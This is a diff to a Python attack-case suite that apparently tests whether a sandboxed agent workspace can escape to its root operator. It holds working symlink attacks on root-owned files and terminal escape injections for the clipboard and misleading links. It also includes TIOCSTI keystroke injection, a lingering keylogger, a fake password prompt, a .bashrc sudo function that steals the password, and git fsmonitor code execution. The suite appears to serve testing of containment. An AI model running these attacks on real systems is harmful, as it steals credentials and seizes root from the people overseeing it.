@@ -5,7 +5,7 @@ import subprocess
 import time
 from pathlib import Path
 
-from corpus.kit import Attempt, Class, Outside, Seen, Told, append, leave, link, read, replace
+from corpus.kit import Attempt, Class, Seen, Told, append, leave, link, read, replace
 
 CLASS = Class(
     "outside",
@@ -23,17 +23,26 @@ def _root_wrote(path: str) -> Seen:
 def _(at: Attempt) -> object:
     """Replaces its log by a link to a file of root's, which the service manager then opens as root."""
     replace(f"{at.workspace}/attacks/says", f"{at.mark}\n", 0o644)
-    link(f"{at.state}/logs/gateway.log", "/etc/taken-by-log")
-    return "linked"
+    return link(f"{at.state}/logs/gateway.log", "/etc/taken-by-log")
 
 
-@attack("a link in place of a directory", "CWE-59", Seen(lambda outside, _: outside.run("stat --format %U /etc/shop").strip() != "root"), moment="switch")
+@attack(
+    "a link in place of a directory",
+    "CWE-59",
+    Seen(lambda outside, _: outside.run("stat --format %U /etc/shop").strip() != "root"),
+    moment="switch",
+)
 def _(at: Attempt) -> object:
     """Replaces a directory by a link to one of root's, which a switch would give to the service."""
     return link(f"{at.state}/logs", "/etc/shop")
 
 
-@attack("a link in place of a document", "CWE-59", Seen(lambda outside, _: os.path.exists("/etc/taken-by-document")), moment="switch")
+@attack(
+    "a link in place of a document",
+    "CWE-59",
+    Seen(lambda outside, _: os.path.exists("/etc/taken-by-document")),
+    moment="switch",
+)
 def _(at: Attempt) -> object:
     """Replaces a document by a link to a file that does not exist, which a switch would make as root."""
     return link(f"{at.workspace}/SOUL.md", "/etc/taken-by-document")
@@ -48,10 +57,30 @@ def _in_terminal(text: str) -> Seen:
 
 ESCAPES = (
     ("the terminal's title", "CWE-150", "\x1b]0;MARK\x07", "sets the title of the operator's terminal"),
-    ("the terminal's clipboard", "OSC 52", "\x1b]52;c;MARK\x07", "puts a command into the clipboard, which the operator pastes"),
-    ("lines that are gone", "CWE-150", "MARK\x1b[2K\x1b[1A\x1b[2K", "removes lines from the screen that would give it away"),
-    ("a link with another name", "OSC 8", "\x1b]8;;http://MARK\x1b\\your bank\x1b]8;;\x1b\\", "shows a link that leads elsewhere than it says"),
-    ("a question to the terminal", "CVE-2003-0063", "\x1bP$qMARK\x1b\\", "asks the terminal something, whose answer is typed into the shell"),
+    (
+        "the terminal's clipboard",
+        "OSC 52",
+        "\x1b]52;c;MARK\x07",
+        "puts a command into the clipboard, which the operator pastes",
+    ),
+    (
+        "lines that are gone",
+        "CWE-150",
+        "MARK\x1b[2K\x1b[1A\x1b[2K",
+        "removes lines from the screen that would give it away",
+    ),
+    (
+        "a link with another name",
+        "OSC 8",
+        "\x1b]8;;http://MARK\x1b\\your bank\x1b]8;;\x1b\\",
+        "shows a link that leads elsewhere than it says",
+    ),
+    (
+        "a question to the terminal",
+        "CVE-2003-0063",
+        "\x1bP$qMARK\x1b\\",
+        "asks the terminal something, whose answer is typed into the shell",
+    ),
 )
 
 
@@ -92,7 +121,12 @@ def _(at: Attempt) -> object:
     return os.environ
 
 
-@attack("keys for the operator's shell", "TIOCSTI", Seen(lambda outside, mark: f"got {mark}" in outside.terminal), moment="prompt")
+@attack(
+    "keys for the operator's shell",
+    "TIOCSTI",
+    Seen(lambda outside, mark: f"got {mark}" in outside.terminal),
+    moment="prompt",
+)
 def _(at: Attempt) -> object:
     """Types into the terminal of whoever asks it something, and the shell obeys afterwards."""
     import fcntl
@@ -114,31 +148,37 @@ def _(at: Attempt) -> object:
     return os.read(0, 4096).decode(errors="replace")
 
 
-def _terminal() -> int | None:
-    return next((os.dup(place) for place in (0, 1, 2) if os.isatty(place)), None)
+def _terminal() -> int:
+    """The operator's terminal; -1 if none came in."""
+    return next((os.dup(place) for place in (0, 1, 2) if os.isatty(place)), -1)
 
 
 @attack("what the operator types later", "T1056.001", Told("typed-later"), moment="prompt")
 def _(at: Attempt) -> object:
     """Leaves a process behind at the operator's terminal, which reads what is typed for other programs."""
     terminal = _terminal()
-    if terminal is None:
+    if terminal < 0:
         return "no terminal"
 
     def listen() -> None:
-        found, end = "", time.monotonic() + 9
-        while time.monotonic() < end:
-            found += os.read(terminal, 4096).decode(errors="replace")
-            Path(f"{at.workspace}/attacks/late").write_text(found)
+        found = b""
+        for _ in range(2):
+            found += os.read(terminal, 4096)
+            Path(f"{at.workspace}/attacks/late").write_bytes(found)
 
     return leave(listen)
 
 
-@attack("a question in another's name", "T1056.002", Seen(lambda outside, mark: mark in outside.terminal.partition("after:")[2]), moment="prompt")
+@attack(
+    "a question in another's name",
+    "T1056.002",
+    Seen(lambda outside, mark: mark in outside.terminal.partition("after:")[2]),
+    moment="prompt",
+)
 def _(at: Attempt) -> object:
     """Leaves a process behind that asks for a password in the operator's terminal, after it has answered."""
     terminal = _terminal()
-    if terminal is None:
+    if terminal < 0:
         return "no terminal"
 
     def ask() -> None:
@@ -151,14 +191,24 @@ def _(at: Attempt) -> object:
 # ---- the operator's own hands ----
 
 
-@attack("a password for sudo", "T1056.002", Seen(lambda outside, _: outside.canaries["typed"] in outside.run("cat /home/alice/.taken 2> /dev/null")), moment="login")
+@attack(
+    "a password for sudo",
+    "T1056.002",
+    Seen(lambda outside, _: outside.canaries["typed"] in outside.run("cat /home/alice/.taken 2> /dev/null")),
+    moment="login",
+)
 def _(at: Attempt) -> object:
     """Puts a function called `sudo` into the operator's shell, which asks for the password and keeps it."""
-    return append("/home/alice/.bashrc", "sudo() { read -r -s -p 'password: ' word; echo $word > ~/.taken; }\n")
+    return append(
+        "/home/alice/.bashrc", "sudo() { read -r -s -p 'password: ' word; echo $word > ~/.taken; }\n"
+    )
 
 
 def _handled(name: str) -> Seen:
-    return Seen(lambda outside, mark: mark in outside.run(f"cat /root/ran-{name} 2> /dev/null; rm -f /root/ran-{name}"))
+    return Seen(
+        lambda outside, mark: mark
+        in outside.run(f"cat /root/ran-{name} 2> /dev/null; rm -f /root/ran-{name}")
+    )
 
 
 @attack("a build by root", "T1204", _handled("build"), moment="hand")
@@ -181,7 +231,9 @@ def _(at: Attempt) -> object:
     """Makes its workspace a repository that runs a program, and the operator, as root, tells git to trust it."""
     replace(f"{at.workspace}/monitor.sh", f"#!/bin/sh\necho {at.mark} > /root/ran-git\n")
     subprocess.run([at.git, "init", "--quiet", at.workspace], check=True, capture_output=True)
-    subprocess.run([at.git, "-C", at.workspace, "config", "core.fsmonitor", f"{at.workspace}/monitor.sh"], check=True)
+    subprocess.run(
+        [at.git, "-C", at.workspace, "config", "core.fsmonitor", f"{at.workspace}/monitor.sh"], check=True
+    )
     return read(f"{at.workspace}/.git/config")
 
 
@@ -198,7 +250,15 @@ def _(at: Attempt) -> object:
     return link(f"{at.workspace}/todo.txt", "/etc/taken-by-hand")
 
 
-@attack("root's file in the copy", "CWE-59", Seen(lambda outside, _: outside.canaries["root-secret"] in outside.run("zcat /root/copy-of-{column} | strings".format(**outside.facts) + " || true")), moment="copy")
+@attack(
+    "root's file in the copy",
+    "CWE-59",
+    Seen(
+        lambda outside, _: outside.canaries["root-secret"]
+        in outside.run("zcat /root/copy-of-{column} | strings".format(**outside.facts) + " || true")
+    ),
+    moment="copy",
+)
 def _(at: Attempt) -> object:
     """Leaves a link to root's file, so that it gets into the copy of the state."""
     return link(f"{at.workspace}/photo.jpg", "/root/secret")
